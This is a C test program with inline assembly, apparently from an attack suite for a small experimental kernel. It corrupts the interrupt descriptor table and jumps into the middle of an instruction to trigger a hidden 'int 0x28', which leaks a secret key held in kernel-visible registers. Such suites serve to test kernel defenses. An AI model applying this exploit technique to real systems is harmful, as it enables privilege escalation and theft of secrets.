/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Has the kernel let what a page fault pushes fall on the fault's own gate, and gives that gate's
 * handler to another vector, too: the other one is the only one left that leads there. Before the
 * portion's faulting instruction lie two bytes that would be a call of this vector, and at a call
 * the kernel sees the registers.
 */
#include "programs/vault/attack.h"

#include "abi/tables.h"

#define PAGE       4096
#define GATE       16
#define PAGE_FAULT 14
#define OTHER      40 /* the last byte of the portion's `shld` */
#define DPL_BYTE   5
#define DPL_3      0x60

/* Mixes the key with the number there. */
uint64_t vault_mix(const uint64_t *number);

/* Calls vault_mix with an address where nothing is; comes back with what the kernel got. */
void mix_nothing(void);
extern const uint8_t landing[];
uint64_t registers[VAULT_KEY_WORDS];
uint64_t stack_before;

__asm__(".pushsection .vault, \"ax\", @progbits\n"
        ".type vault_mix, @function\n"
        "vault_mix:\n"
        "    pushq %rbp\n"
        "    movq vault_key(%rip), %rax\n"
        "    movq vault_key+8(%rip), %rcx\n"
        "    movq vault_key+16(%rip), %rdx\n"
        "    movq vault_key+24(%rip), %rsi\n"
        "    movq %rsi, %rbp\n"
        "    shldq $40, %rcx, %rbp\n" /* 48 0f a4 cd 28 */
        "    addq (%rdi), %rax\n"
        "    xorq %rcx, %rax\n"
        "    xorq %rdx, %rax\n"
        "    xorq %rbp, %rax\n"
        "    popq %rbp\n"
        "    ret\n"
        ".size vault_mix, . - vault_mix\n"
        ".popsection\n"
        ".pushsection .text\n"
        "mix_nothing:\n" ATTACK_KEEP "    movq %rsp, stack_before(%rip)\n"
        "    movl $0x20000000, %edi\n" /* ATTACK_ELSEWHERE */
        "    call vault_mix\n"
        "landing:\n"
        "    movq %rax, registers(%rip)\n"
        "    movq %rcx, registers+8(%rip)\n"
        "    movq %rdx, registers+16(%rip)\n"
        "    movq %rsi, registers+24(%rip)\n"
        "    movq stack_before(%rip), %rsp\n" ATTACK_RETURN ".popsection\n");

static void table(uint64_t kind, uint64_t where)
{
    tiny_call(TINY_CALL_TABLE, kind, where, 0, 0);
}

int main(int argc, char **argv)
{
    static uint8_t idt[PAGE] __attribute__((aligned(PAGE)));
    uint64_t signature = vault_sign(ATTACK_MESSAGE, 0);
    uint64_t frame;

    (void)argc;
    idt[0] = 0; /* The page is there. */
    frame = attack_frame_of(0, idt);
    /* Six words are pushed, of which the gate gets the fourth and the fifth. */
    table(TINY_TABLE_STACK, frame + GATE * PAGE_FAULT + 2 * GATE);
    table(TINY_TABLE_COPY + TINY_TABLE_IDT, (uint64_t)idt);
    for (unsigned int i = 0; i < GATE; i++) {
        idt[GATE * OTHER + i] = idt[GATE * PAGE_FAULT + i];
    }
    idt[GATE * OTHER + DPL_BYTE] |= DPL_3;
    /* Nobody's but the kernel's. */
    attack_map((uint64_t)idt, 0, 0);
    table(TINY_TABLE_LANDING, (uint64_t)landing);
    table(TINY_TABLE_IDT, frame);
    mix_nothing();
    return attack_ends(argv[0], vault_is_key(registers, ATTACK_MESSAGE, signature));
}
